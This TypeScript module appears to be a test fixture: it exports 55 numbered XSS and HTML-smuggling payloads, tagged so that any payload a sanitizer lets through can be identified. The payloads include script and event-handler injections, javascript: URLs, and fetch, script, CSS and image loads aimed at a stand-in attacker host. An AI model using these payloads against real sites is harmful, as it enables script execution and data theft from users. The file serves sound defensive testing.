/**
 * XSS and HTML-smuggling payloads. `N` in a template becomes the payload's number, so a fired dialog
 * (`alert('xssN')`) or a request to `…/pN` names the payload that got through.
 */
const HOST = 'https://evil-exfil.example';

const templates: readonly string[] = [
  `<script>alert('xssN')</script>`,
  `<img src=x onerror="alert('xssN')">`,
  `<img src="${HOST}/pN.png">`,
  `![pixel](${HOST}/pN.png)`,
  `[click](javascript:alert('xssN'))`,
  `<a href="javascript:alert('xssN')">open</a>`,
  `<svg onload="alert('xssN')"></svg>`,
  `<svg><script>alert('xssN')</script></svg>`,
  `<iframe src="${HOST}/pN"></iframe>`,
  `<iframe srcdoc="<script>parent.alert('xssN')</script>"></iframe>`,
  `<body onload=alert('xssN')>`,
  `<div style="background:url(${HOST}/pN.png)">bg</div>`,
  `<style>@import url(${HOST}/pN.css);</style>`,
  `<link rel=stylesheet href=${HOST}/pN.css>`,
  `<form action="${HOST}/pN"><button>Go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${HOST}/pN">`,
  `<object data="${HOST}/pN.swf"></object>`,
  `<embed src="${HOST}/pN">`,
  `<video src="${HOST}/pN.mp4" onerror=alert('xssN')></video>`,
  `<audio src=x onerror=alert('xssN')></audio>`,
  `<details open ontoggle=alert('xssN')>d</details>`,
  `<input autofocus onfocus=alert('xssN')>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert('xssN')>`,
  `"><script>alert('xssN')</script>`,
  `'><img src=x onerror=alert('xssN')>`,
  `<a href="data:text/html,<script>alert('xssN')</script>">data</a>`,
  `<img srcset="${HOST}/pN.png 1x">`,
  `<picture><source srcset="${HOST}/pN.webp"><img alt="p"></picture>`,
  `<base href="${HOST}/pN/">`,
  `<svg><a xlink:href="javascript:alert('xssN')"><text y=20>svg link</text></a></svg>`,
  `<svg><image href="${HOST}/pN.svg"/></svg>`,
  `<table background="${HOST}/pN.png"><tr><td>t</td></tr></table>`,
  `<marquee onstart=alert('xssN')>m</marquee>`,
  `<javascript:alert('xssN')>`,
  `[x](JaVaScRiPt:alert('xssN'))`,
  `[x](&#106;avascript:alert('xssN'))`,
  `<img src="x" onerror="fetch('${HOST}/pN')">`,
  `<script src="${HOST}/pN.js"></script>`,
  `<noscript><p title="</noscript><img src=x onerror=alert('xssN')>"></noscript>`,
  `<template><img src=x onerror=alert('xssN')></template>`,
  `<style>input[value^=a]{background:url(${HOST}/pN)}</style>`,
  `<div style="width:expression(alert('xssN'))">expr</div>`,
  `<a href="${HOST}/pN" ping="${HOST}/pN-ping">ping link</a>`,
  `![ref][rN]\n\n[rN]: ${HOST}/pN.png`,
  `&lt;script&gt;alert('xssN')&lt;/script&gt;`,
  `<img src=x:alert(alt) onerror=eval(src) alt='xssN'>`,
  `<svg/onload=alert('xssN')>`,
  `<form id=fN></form><button form=fN formaction="javascript:alert('xssN')">b</button>`,
  `<img src="//evil-exfil.example/pN.png">`,
  `<a href="vbscript:msgbox('xssN')">vb</a>`,
  `<frameset onload=alert('xssN')>`,
  `<xss id=xN tabindex=1 onfocusin=alert('xssN')></xss>`,
  `<style>*{background-image:url('${HOST}/pN')}</style>`,
  `<img src="${HOST}/pN.gif" style="display:none">`,
  `<svg><foreignObject><iframe src="${HOST}/pN"></iframe></foreignObject></svg>`,
];

export interface HostilePayload {
  number: number;
  text: string;
}

export const hostilePayloads: readonly HostilePayload[] = templates.map((template, index) => ({
  number: index + 1,
  text: template.replace(/N/gu, String(index + 1)).replace(/xss(\d+)/gu, 'xss$1'),
}));

export const HOSTILE_HOST = HOST;
